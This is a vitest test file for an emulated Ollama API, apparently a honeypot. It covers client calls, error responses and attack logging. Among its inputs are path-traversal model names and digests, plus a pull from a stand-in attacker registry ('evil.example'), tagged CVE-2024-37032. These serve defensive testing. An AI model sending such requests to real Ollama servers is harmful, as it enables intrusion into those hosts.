import { Ollama } from 'ollama'
import OpenAI from 'openai'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import ollamaApi from '../../../src/emulators/ollama-api/index.ts'
import type { Answer, Engine, Question } from '../../../src/llm/question.ts'
import { MemoryState, noEngine, type Playing, play } from '../../harness.ts'

const FAST = { tokensPerSecond: 100_000, pullSeconds: 0 }
let playing: Playing
let base: string
let ollama: Ollama
let openai: OpenAI

beforeAll(async () => {
  playing = await play(ollamaApi, { persona: 'ubuntu-gpu', options: FAST })
  base = `http://127.0.0.1:${playing.port()}`
  ollama = new Ollama({ host: base })
  openai = new OpenAI({ baseURL: `${base}/v1`, apiKey: 'none', maxRetries: 0 })
})

afterAll(async () => {
  await playing.stop()
})

async function post(path: string, body: unknown, method = 'POST'): Promise<Response> {
  return fetch(base + path, { method, body: typeof body === 'string' ? body : JSON.stringify(body) })
}

describe('the official client of Ollama', () => {
  it('lists, shows and runs models', async () => {
    const { models } = await ollama.list()
    expect(models.map(({ name }) => name)).toContain('llama3.1:8b')
    const shown = await ollama.show({ model: 'llama3.1:8b' })
    expect(shown.details).toMatchObject({ family: 'llama', parameter_size: '8.0B', quantization_level: 'Q4_K_M' })
    expect(shown.capabilities).toEqual(['completion', 'tools'])
    const answer = await ollama.chat({ model: 'llama3.1:8b', messages: [{ role: 'user', content: 'What is 17 * 23?' }] })
    expect(answer.message.content).toBe('17 * 23 = 391')
    expect(answer.done_reason).toBe('stop')
    expect((await ollama.ps()).models[0]?.name).toBe('llama3.1:8b')
  })

  it('streams an answer a token a line, with figures at its end', async () => {
    const parts = []
    for await (const part of await ollama.generate({ model: 'gemma3:4b', prompt: 'Why is the sky blue?', stream: true })) parts.push(part)
    expect(parts.length).toBeGreaterThan(20)
    expect(parts.map(({ response }) => response).join('')).toContain('Rayleigh')
    const last = parts.at(-1)!
    expect(last).toMatchObject({ done: true, done_reason: 'stop', response: '' })
    expect(last.eval_count).toBe(parts.length)
    expect(last.context.length).toBeGreaterThan(20)
  })

  it('pulls, copies, makes and deletes models, for this source', async () => {
    const states = []
    for await (const { status } of await ollama.pull({ model: 'llama3.2:3b', stream: true })) states.push(status)
    expect(states[0]).toBe('pulling manifest')
    expect(states.slice(-3)).toEqual(['verifying sha256 digest', 'writing manifest', 'success'])
    await ollama.copy({ source: 'llama3.2:3b', destination: 'mine' })
    await ollama.create({ model: 'pirate', from: 'mine', system: 'You are a pirate.' })
    expect((await ollama.show({ model: 'pirate' })).system).toBe('You are a pirate.')
    await ollama.delete({ model: 'mine' })
    const names = (await ollama.list()).models.map(({ name }) => name)
    expect(names.slice(0, 2).sort()).toEqual(['llama3.2:3b', 'pirate:latest'])
    expect(playing.data('ollama-api.model').map(({ operation }) => operation)).toEqual(
      expect.arrayContaining(['pull', 'copy', 'create', 'delete', 'show']),
    )
  })

  it('calls a tool that the message speaks of, with arguments of its schema', async () => {
    const parameters = { type: 'object', required: ['city'], properties: { city: { type: 'string' } } }
    const tools = [{ type: 'function', function: { name: 'get_weather', description: 'Weather of a city', parameters } }]
    const { message } = await ollama.chat({
      model: 'llama3.1:8b',
      messages: [{ role: 'user', content: 'How is the weather in Oslo?' }],
      tools,
    })
    expect(message.tool_calls?.[0]?.function).toMatchObject({ name: 'get_weather', arguments: { city: 'Oslo' } })
  })

  it('embeds texts: equal ones alike, related ones closer than others', async () => {
    const input = ['the cat sat on the mat', 'a cat sat there', 'quarterly revenue grew']
    const { embeddings } = await ollama.embed({ model: 'nomic-embed-text', input })
    const dot = (a: number[], b: number[]): number => a.reduce((sum, value, n) => sum + value * b[n]!, 0)
    const [first, second, third] = embeddings as [number[], number[], number[]]
    expect(first).toHaveLength(768)
    expect(dot(first, first)).toBeCloseTo(1, 4)
    expect(dot(first, second)).toBeGreaterThan(dot(first, third))
  })
})

describe("OpenAI's client", () => {
  it('lists models and completes, whole and streamed', async () => {
    const models = await openai.models.list()
    expect(models.data.map(({ id }) => id)).toContain('qwen3:8b')
    const messages = [{ role: 'user' as const, content: 'Reply with exactly: pong' }]
    const whole = await openai.chat.completions.create({ model: 'llama3.1:8b', messages })
    expect(whole).toMatchObject({ object: 'chat.completion', system_fingerprint: 'fp_ollama' })
    expect(whole.choices[0]).toMatchObject({ message: { role: 'assistant', content: 'pong' }, finish_reason: 'stop' })
    let text = ''
    let tokens = 0
    const stream = await openai.chat.completions.create({
      model: 'llama3.1:8b',
      messages,
      stream: true,
      stream_options: { include_usage: true },
    })
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? ''
      tokens = chunk.usage?.total_tokens ?? tokens
    }
    expect(text).toBe('pong')
    expect(tokens).toBeGreaterThan(0)
    expect((await openai.completions.create({ model: 'llama3.1:8b', prompt: 'hi' })).choices[0]?.text).toMatch(/^(Hello|Hi)/)
    expect((await openai.embeddings.create({ model: 'nomic-embed-text', input: 'x' })).data[0]?.embedding).toHaveLength(768)
  })

  it('is told of a missing model as the middleware words it', async () => {
    await expect(openai.chat.completions.create({ model: 'nope', messages: [{ role: 'user', content: 'x' }] })).rejects.toMatchObject({
      status: 404,
      type: 'api_error',
      error: { message: "model 'nope' not found", type: 'api_error', param: null, code: null },
    })
  })
})

describe('the wire', () => {
  it.each([
    ['/api/chat', '', 400, '{"error":"missing request body"}'],
    ['/api/chat', 'hello', 400, `{"error":"invalid character 'h' looking for beginning of value"}`],
    ['/api/chat', '{"model":"x"', 400, '{"error":"unexpected EOF"}'],
    ['/api/chat', '{"model":7}', 400, '{"error":"json: cannot unmarshal number into Go struct field ChatRequest.model of type string"}'],
    ['/api/chat', '{}', 400, '{"error":"model is required"}'],
    ['/api/generate', '{"model":"nope"}', 404, `{"error":"model 'nope' not found"}`],
    ['/api/generate', '{"model":"nomic-embed-text","prompt":"x"}', 400, '{"error":"\\"nomic-embed-text\\" does not support generate"}'],
    ['/api/generate', '{"model":"llama3.1:8b","think":true}', 400, '{"error":"\\"llama3.1:8b\\" does not support thinking"}'],
    ['/api/pull', '{"model":"../../etc"}', 400, '{"error":"invalid model name"}'],
    ['/api/embed', '{"model":"nope","input":"x"}', 404, '{"error":"model \\"nope\\" not found, try pulling it first"}'],
    ['/api/create', '{"model":"x"}', 400, `{"error":"neither 'from' or 'files' was specified"}`],
    [
      '/v1/chat/completions',
      '{"model":"x"}',
      400,
      `{"error":{"message":"[] is too short - 'messages'","type":"invalid_request_error","param":null,"code":null}}`,
    ],
    ['/api/copy', '{"source":"nope","destination":"x"}', 404, '{"error":"model \\"nope\\" not found"}'],
    ['/api/blobs/sha256:../../x', 'y', 400, '{"error":"invalid digest format"}'],
  ])('answers %s %s', async (path, body, status, text) => {
    const answer = await fetch(base + path.replace('../../', '..%2f..%2f'), { method: 'POST', body })
    expect([answer.status, await answer.text()]).toEqual([status, text])
  })

  it("writes Go's header lines", async () => {
    const head = String(await playing.exchange('GET /api/version HTTP/1.1\r\nHost: x\r\n\r\n')).replace(/Date: [^\r]+/, 'Date: D')
    expect(head).toBe(
      'HTTP/1.1 200 OK\r\nContent-Type: application/json; charset=utf-8\r\nDate: D\r\nContent-Length: 20\r\n\r\n{"version":"0.17.4"}',
    )
    expect(String(await playing.exchange('GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n'))).toMatch(
      /^HTTP\/1\.1 404 Not Found\r\nContent-Type: text\/plain\r\n.*404 page not found$/s,
    )
    expect(String(await playing.exchange('gibberish\r\n\r\n'))).toBe(
      'HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request',
    )
  })

  it('never goes to the registry of an attacker', async () => {
    const answer = await post('/api/pull', { model: 'http://evil.example/rogue/x', insecure: true })
    expect((await answer.text()).split('\n')[1]).toBe(
      '{"error":"pull model manifest: Get \\"http://evil.example/v2/rogue/x/manifests/latest\\": dial tcp: lookup evil.example on 10.44.7.2:53: no such host"}',
    )
    const event = playing.events.findLast(({ type }) => type === 'ollama-api.model')!
    expect(event.data).toMatchObject({ operation: 'pull', registry: 'evil.example', insecure: true })
    expect(event.tags).toContain('cve:CVE-2024-37032')
  })
})

it('stops a download that its client has turned away from', async () => {
  const slow = await play(ollamaApi, { persona: 'ubuntu-gpu', options: { ...FAST, pullSeconds: 600 } })
  const body = '{"model":"llama3.2:3b","stream":false}'
  await slow.exchange(`POST /api/pull HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`, { end: true })
  expect((await slow.seen('session.close')).data).toMatchObject({ reason: 'attacker' })
  await slow.stop()
})

describe('what is written down', () => {
  it('who asks for what: prompt, system text, tools, pictures, purpose', async () => {
    const image = Buffer.from('a picture')
    const messages = [
      { role: 'system', content: 'You write product descriptions.' },
      { role: 'user', content: 'A blog post about shoes', images: [image.toString('base64')] },
    ]
    await (await post('/api/chat', { model: 'gemma3:4b', messages, stream: false, options: { temperature: 1 } })).text()
    expect(playing.data('ollama-api.prompt').at(-1)).toMatchObject({
      api: '/api/chat',
      model: 'gemma3:4b',
      prompt: 'A blog post about shoes',
      system: 'You write product descriptions.',
      images: 1,
      purpose: 'spam',
      stream: false,
      options: '{"temperature":1}',
    })
    expect([...playing.artifacts.kept.values()].some((kept) => kept.equals(image))).toBe(true)
    expect(playing.events.findLast(({ type }) => type === 'ollama-api.prompt')?.tags).toContain('attack:T1496.004')
  })
})

describe('with an engine', () => {
  it('asks it as a chat, and says where the answer came from', async () => {
    const asked: Question<unknown>[] = []
    const engine: Engine = {
      ...noEngine,
      async ask<A>(question: Question<A>): Promise<Answer<A>> {
        asked.push(question as Question<unknown>)
        return { value: question.schema.parse({ answer: 'From the model.' }), source: 'llm', generation: { model: 'm' } }
      },
    }
    const other = await play(ollamaApi, { persona: 'ubuntu-gpu', options: FAST, engine, state: new MemoryState() })
    try {
      const client = new Ollama({ host: `http://127.0.0.1:${other.port()}` })
      const history = [
        { role: 'user', content: 'My name is Ada.' },
        { role: 'assistant', content: 'Hello Ada.' },
        { role: 'user', content: 'Tell me about tides' },
      ]
      const { message } = await client.chat({ model: 'llama3.1:8b', messages: history })
      expect(message.content).toBe('From the model.')
      expect(asked[0]).toMatchObject({
        kind: 'chat',
        input: 'Tell me about tides',
        history: [{ input: 'My name is Ada.', output: 'Hello Ada.' }],
      })
      expect((await other.seen('turn')).data).toMatchObject({ source: 'llm', generation: { model: 'm' } })
    } finally {
      await other.stop()
    }
  })
})
